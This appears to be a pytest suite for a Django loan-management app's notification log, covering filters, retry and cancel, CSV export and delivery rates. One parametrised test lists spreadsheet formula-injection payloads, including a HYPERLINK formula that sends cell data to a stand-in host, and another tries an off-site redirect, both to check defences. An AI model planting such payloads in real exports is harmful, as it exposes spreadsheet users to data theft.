"""The notification pages: log filters, retry and cancel through the lifecycle module, CSV export, delivery rates."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.contrib.auth.models import Permission
from django.urls import reverse

from assets.models import Client
from assets.tests.factories import AttributionFactory, ClientFactory
from notifications.models import Canal, CodeErreur, NotificationLog, Statut, TypeNotification

PARIS = ZoneInfo("Europe/Paris")
NOW = datetime(2026, 6, 15, 10, 0, tzinfo=PARIS)


@pytest.fixture(autouse=True)
def frozen(settings):
    settings.LANGUAGE_CODE = "en"
    with time_machine.travel(NOW, tick=False):
        yield


def make_log(loan=None, **fields) -> NotificationLog:
    loan = loan or AttributionFactory(date_debut=NOW - timedelta(hours=1))
    fields.setdefault("type_notification", TypeNotification.CREATION)
    fields.setdefault("canal", Canal.EMAIL)
    fields.setdefault("date_scheduled", NOW - timedelta(hours=1))
    return NotificationLog.objects.create(attribution=loan, **fields)


def test_log_filters_by_status_channel_type_client_and_dates(staff_client):
    alice = AttributionFactory(client=ClientFactory(name="Alice"))
    failed = make_log(alice, statut=Statut.ECHEC_PERMANENT, canal=Canal.WHATSAPP, erreur_message="21211 invalid number")
    sent = make_log(statut=Statut.ENVOYEE, type_notification=TypeNotification.RESTITUTION)
    old = make_log(statut=Statut.ENVOYEE, date_scheduled=NOW - timedelta(days=40))

    def ids(**params):
        response = staff_client.get(reverse("notification_log"), params)
        assert response.status_code == 200
        return {row.pk for row in response.context["page"]}

    assert ids() == {failed.pk, sent.pk, old.pk}
    assert ids(statut="ECHEC_PERMANENT") == {failed.pk}
    assert ids(canal="WHATSAPP") == {failed.pk}
    assert ids(type_notification="RESTITUTION") == {sent.pk}
    assert ids(client="alice") == {failed.pk}
    assert ids(client=str(alice.client_id)) == {failed.pk}
    assert ids(date_from="2026-06-01", date_to="2026-06-15") == {failed.pk, sent.pk}
    assert ids(loan=alice.pk) == {failed.pk}
    page = staff_client.get(reverse("notification_log"), {"statut": "ECHEC_PERMANENT"}).content.decode()
    assert "21211 invalid number" in page


def test_log_filters_by_failure_cause(staff_client):
    refused = make_log(
        statut=Statut.ECHEC_PERMANENT, erreur_code=CodeErreur.CREDENTIALS, erreur_message="Mail server answered 535"
    )
    opted_out = make_log(
        statut=Statut.ECHEC_PERMANENT, canal=Canal.SMS, erreur_code=CodeErreur.OPTED_OUT, erreur_message="21610 STOP"
    )
    busy = make_log(statut=Statut.ECHEC, erreur_code=CodeErreur.PROVIDER_UNAVAILABLE, erreur_message="451 busy")
    make_log(statut=Statut.ENVOYEE)

    def ids(**params):
        response = staff_client.get(reverse("notification_log"), params)
        assert response.status_code == 200
        return {row.pk for row in response.context["page"]}

    assert ids(erreur_code="CREDENTIALS") == {refused.pk}
    assert ids(erreur_code="OPTED_OUT") == {opted_out.pk}
    assert ids(erreur_code="PROVIDER_UNAVAILABLE", statut="ECHEC") == {busy.pk}
    assert ids(erreur_code="RATE_LIMITED") == set()
    assert len(ids()) == 4
    page = staff_client.get(reverse("notification_log"), {"erreur_code": "OPTED_OUT"}).content.decode()
    assert '<option value="OPTED_OUT" selected>' in page
    row = page[page.index(f'<tr data-id="{opted_out.pk}"') :]
    row = row[: row.index("</tr>")]
    assert row.index("Recipient opted out or cannot receive on this channel") < row.index("21610 STOP")
    assert "451 busy" not in page


def test_an_unknown_cause_in_the_filter_is_a_field_error_not_a_crash(staff_client):
    response = staff_client.get(reverse("notification_log"), {"erreur_code": "NOPE"})
    assert response.status_code == 200
    assert response.context["form"].errors["erreur_code"]


def test_the_log_filter_by_cause_is_in_french_by_default(staff_client, settings):
    settings.LANGUAGE_CODE = "fr"
    make_log(statut=Statut.ECHEC_PERMANENT, erreur_code=CodeErreur.CAP_REACHED)
    page = staff_client.get(reverse("notification_log")).content.decode()
    assert "Plafond quotidien atteint" in page and "Identifiants refusés par le fournisseur" in page


def test_an_inverted_period_is_a_field_error_not_a_crash(staff_client):
    response = staff_client.get(reverse("notification_log"), {"date_from": "2026-06-10", "date_to": "2026-06-01"})
    assert response.status_code == 200
    assert response.context["form"].errors["date_to"] == ["The end of the period is before its start."]


def test_retry_one_failed_row_goes_back_through_the_send_path(
    staff_client, django_capture_on_commit_callbacks, mailoutbox
):
    row = make_log(statut=Statut.ECHEC_PERMANENT, nb_tentatives=3, erreur_message="550 no such user")
    with django_capture_on_commit_callbacks(execute=True):
        response = staff_client.post(reverse("notification_retry", args=[row.pk]))
    assert response.status_code == 302
    row.refresh_from_db()
    # A fresh set of attempts, sent by the engine's task (eager in tests) to the client's address.
    assert (row.statut, row.nb_tentatives, row.erreur_message) == (Statut.ENVOYEE, 1, "")
    assert len(mailoutbox) == 1 and row.attribution.client.email in mailoutbox[0].to[0]


def test_retry_of_a_sent_row_changes_nothing_and_says_why(staff_client):
    row = make_log(statut=Statut.ENVOYEE, date_envoi=NOW - timedelta(minutes=50))
    response = staff_client.post(reverse("notification_retry", args=[row.pk]), follow=True)
    row.refresh_from_db()
    assert row.statut == Statut.ENVOYEE
    assert "only failed or cancelled ones can be retried" in response.content.decode()


def test_retry_is_post_only(staff_client):
    row = make_log(statut=Statut.ECHEC_PERMANENT)
    assert staff_client.get(reverse("notification_retry", args=[row.pk])).status_code == 405


def test_bulk_retry_requeues_only_failed_rows(staff_client):
    failed = make_log(statut=Statut.ECHEC_PERMANENT)
    waiting = make_log(statut=Statut.EN_ATTENTE, date_scheduled=NOW + timedelta(days=1))
    response = staff_client.post(
        reverse("notification_bulk"), {"action": "retry", "ids": [failed.pk, waiting.pk]}, follow=True
    )
    html = response.content.decode()
    assert "1 notification queued again." in html
    assert "1 was not failed or cancelled and was left alone." in html
    failed.refresh_from_db()
    waiting.refresh_from_db()
    assert failed.statut != Statut.ECHEC_PERMANENT and failed.nb_tentatives <= 1
    assert waiting.statut == Statut.EN_ATTENTE and waiting.date_scheduled == NOW + timedelta(days=1)


def test_bulk_cancel_needs_the_change_permission(staff_client, staff_user):
    row = make_log(statut=Statut.EN_ATTENTE, date_scheduled=NOW + timedelta(hours=3))
    response = staff_client.post(reverse("notification_bulk"), {"action": "cancel", "ids": [row.pk]})
    assert response.status_code == 403
    row.refresh_from_db()
    assert row.statut == Statut.EN_ATTENTE

    staff_user.user_permissions.add(Permission.objects.get(codename="change_notificationlog"))
    first = staff_client.post(reverse("notification_bulk"), {"action": "cancel", "ids": [row.pk]})
    row.refresh_from_db()
    assert first.status_code == 200 and 'id="confirm-cancel"' in first.content.decode()
    assert row.statut == Statut.EN_ATTENTE  # nothing cancelled before the confirmation

    response = staff_client.post(
        reverse("notification_bulk"), {"action": "cancel", "ids": [row.pk], "confirm": "yes"}, follow=True
    )
    row.refresh_from_db()
    assert row.statut == Statut.ANNULEE
    assert (row.reason_code, row.reason_params, row.erreur_message) == ("CANCELLED_BY", {"user": "desk"}, "")
    assert row.our_words == "Cancelled by desk."
    assert "1 notification cancelled." in response.content.decode()


def test_bulk_without_selection_says_so(staff_client):
    response = staff_client.post(reverse("notification_bulk"), {"action": "retry"}, follow=True)
    assert "Select at least one notification first." in response.content.decode()


def test_bulk_never_redirects_off_site(staff_client):
    row = make_log(statut=Statut.ECHEC_PERMANENT)
    response = staff_client.post(
        reverse("notification_bulk"), {"action": "retry", "ids": [row.pk], "next": "https://evil.example/"}
    )
    assert response["Location"] == reverse("notification_log")


def test_export_is_the_filtered_log_as_csv(staff_client, settings):
    settings.LANGUAGE_CODE = "en"
    loan = AttributionFactory(materiel__code="CAM-9", client=ClientFactory(name="Zoé"))
    make_log(loan, statut=Statut.ECHEC_PERMANENT, erreur_message="refused, with a comma")
    make_log(statut=Statut.ENVOYEE)
    response = staff_client.get(reverse("notification_export"), {"statut": "ECHEC_PERMANENT"})
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][:5] == ["Id", "Loan", "Material code", "Client", "Type"]
    assert len(rows) == 2
    assert rows[1][2:5] == ["CAM-9", "Zoé", "Loan confirmation"]
    assert rows[1][8] == "Failed permanently"
    assert rows[1][-1] == "refused, with a comma"
    assert rows[1][9] == "2026-06-15 09:00"  # local time, as a spreadsheet reads it


def test_export_in_french_has_french_headers_values_and_the_semicolon_excel_expects(staff_client, settings):
    settings.LANGUAGE_CODE = "fr"
    make_log(statut=Statut.ECHEC_PERMANENT)
    response = staff_client.get(reverse("notification_export"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:5] == ["N°", "Prêt", "Code du matériel", "Client", "Type"]
    assert rows[1][4] == "Confirmation de prêt" and rows[1][8] == "Échec définitif"


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        "=1+1",
        "+33612345678",
        "-2+3",
        "@SUM(A1:A9)",
        "\tcmd",
        "\r=1+1",
    ],
)
def test_export_neutralises_every_cell_a_spreadsheet_would_evaluate(staff_client, settings, hostile):
    """GIVEN a client name, a material code, a recipient and an error text that a spreadsheet reads as a formula,
    WHEN the log is exported, THEN each such cell starts with a single quote (OWASP), the rest is unchanged."""
    loan = AttributionFactory(materiel__code="=1+1")
    # Written as old rows may hold it: a tab or CR is no longer accepted in a name on save.
    Client.objects.filter(pk=loan.client_id).update(name=hostile)
    make_log(loan, statut=Statut.ECHEC_PERMANENT, destinataire=hostile, erreur_message=hostile)
    settings.LANGUAGE_CODE = "en"
    response = staff_client.get(reverse("notification_export"))
    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"), newline="")))
    assert row["Material code"] == "'=1+1"
    for column in ("Client", "Recipient", "Provider's message"):
        assert row[column] == "'" + hostile, column
    assert row["Type"] == "Loan confirmation" and row["Escalation level"] == "0"


@pytest.mark.parametrize(
    "params", [{"loan": "9" * 20}, {"loan": "²"}, {"date_to": "9999-12-31"}, {"date_from": "0001-01-01"}]
)
def test_export_with_a_bad_filter_is_refused_before_the_first_byte(staff_client, params):
    """A filter that cannot be used is a 400 with the reason, not a download cut mid-stream nor the whole log."""
    make_log(statut=Statut.ENVOYEE)
    response = staff_client.get(reverse("notification_export"), params)
    assert response.status_code == 400 and not response.streaming
    assert next(iter(params)) in response.content.decode()


def test_delivery_rate_per_channel_against_its_target(staff_client):
    for _ in range(19):
        make_log(statut=Statut.ENVOYEE)
    make_log(statut=Statut.ECHEC_PERMANENT)  # email: 19/20 = 95 %, not above the 95 % target
    for _ in range(10):
        make_log(statut=Statut.ENVOYEE, canal=Canal.WHATSAPP)  # WhatsApp: 100 %
    make_log(statut=Statut.EN_ATTENTE, canal=Canal.WHATSAPP)  # not final: not counted in the rate
    response = staff_client.get(reverse("delivery_report"), {"date_from": "2026-06-01", "date_to": "2026-06-15"})
    report = {row["canal"]: row for row in response.context["report"]}
    assert (report["EMAIL"]["rate"], report["EMAIL"]["target"], report["EMAIL"]["meets"]) == (95.0, 95, False)
    assert (report["WHATSAPP"]["rate"], report["WHATSAPP"]["pending"], report["WHATSAPP"]["meets"]) == (100.0, 1, True)
    assert report["SMS"]["rate"] is None
    html = response.content.decode()
    assert "below target" in html and "on target" in html


def test_detail_shows_error_attempts_and_fallback_chain(staff_client):
    first = make_log(
        statut=Statut.ECHEC_PERMANENT, canal=Canal.WHATSAPP, nb_tentatives=1, erreur_message="63016 outside window"
    )
    second = make_log(first.attribution, statut=Statut.ENVOYEE, canal=Canal.SMS, fallback_of=first, nb_tentatives=1)
    html = staff_client.get(reverse("notification_detail", args=[first.pk])).content.decode()
    assert "63016 outside window" in html
    assert reverse("notification_detail", args=[second.pk]) in html


def test_export_has_the_failure_cause_column(staff_client, settings):
    settings.LANGUAGE_CODE = "en"
    make_log(statut=Statut.ECHEC_PERMANENT, erreur_code=CodeErreur.INVALID_RECIPIENT, erreur_message="550 no such user")
    make_log(statut=Statut.ENVOYEE)
    response = staff_client.get(reverse("notification_export"), {"erreur_code": "INVALID_RECIPIENT"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert [(row["Cause"], row["Provider's message"]) for row in rows] == [
        ("Invalid or refused recipient", "550 no such user")
    ]


def test_detail_shows_the_cause_above_the_error(staff_client):
    row = make_log(
        statut=Statut.ECHEC_PERMANENT,
        canal=Canal.WHATSAPP,
        erreur_code=CodeErreur.AMBIGUOUS,
        erreur_message="Twilio HTTP 500",
    )
    html = staff_client.get(reverse("notification_detail", args=[row.pk])).content.decode()
    assert "May have gone out: check the provider&#x27;s logs" in html
    assert html.index('id="error-cause"') < html.index('id="error-text"')


def test_the_activity_tab_is_what_happened_newest_first_and_the_planned_tab_what_comes_soonest_first(staff_client):
    sent = make_log(statut=Statut.ENVOYEE, date_scheduled=NOW - timedelta(hours=3))
    failed = make_log(statut=Statut.ECHEC_PERMANENT, date_scheduled=NOW - timedelta(minutes=5))
    later = make_log(statut=Statut.EN_ATTENTE, date_scheduled=NOW + timedelta(days=2))
    sooner = make_log(statut=Statut.EN_ATTENTE, date_scheduled=NOW + timedelta(hours=2))

    def ids(**params):
        return [row.pk for row in staff_client.get(reverse("notification_log"), params).context["page"]]

    assert ids() == [failed.pk, sent.pk]
    assert ids(tab="planned") == [sooner.pk, later.pk]
    assert ids(tab="failed") == [failed.pk]
    assert set(ids(tab="all")) == {sent.pk, failed.pk, later.pk, sooner.pk}
    tabs = {name: count for name, _label, count in staff_client.get(reverse("notification_log")).context["tabs"]}
    assert tabs == {"activity": None, "planned": 2, "failed": 1, "all": None}


def test_an_invalid_address_offers_to_edit_the_client_instead_of_a_retry(staff_client):
    bad = make_log(statut=Statut.ECHEC_PERMANENT, erreur_code=CodeErreur.INVALID_RECIPIENT, erreur_message="550 no")
    busy = make_log(statut=Statut.ECHEC_PERMANENT, erreur_code=CodeErreur.PROVIDER_UNAVAILABLE)
    html = staff_client.get(reverse("notification_log")).content.decode()
    edit = reverse("client_edit", args=[bad.attribution.client_id])

    assert f'<a class="button small" href="{edit}" data-action="edit-client">' in html
    assert f'id="retry-{bad.pk}"' not in html and f'id="retry-{busy.pk}"' in html
    detail = staff_client.get(reverse("notification_detail", args=[bad.pk])).content.decode()
    assert 'id="edit-client"' in detail and reverse("notification_retry", args=[bad.pk]) not in detail


def test_the_detail_page_shows_the_message_as_the_borrower_reads_it(staff_client):
    loan = AttributionFactory(materiel__code="CAM-77", client=ClientFactory(name="Zoé", language="fr"))
    row = make_log(loan, statut=Statut.ENVOYEE, date_envoi=NOW - timedelta(hours=1))
    html = staff_client.get(reverse("notification_detail", args=[row.pk])).content.decode()
    assert 'id="message-body"' in html and "CAM-77" in html and "Zoé" in html
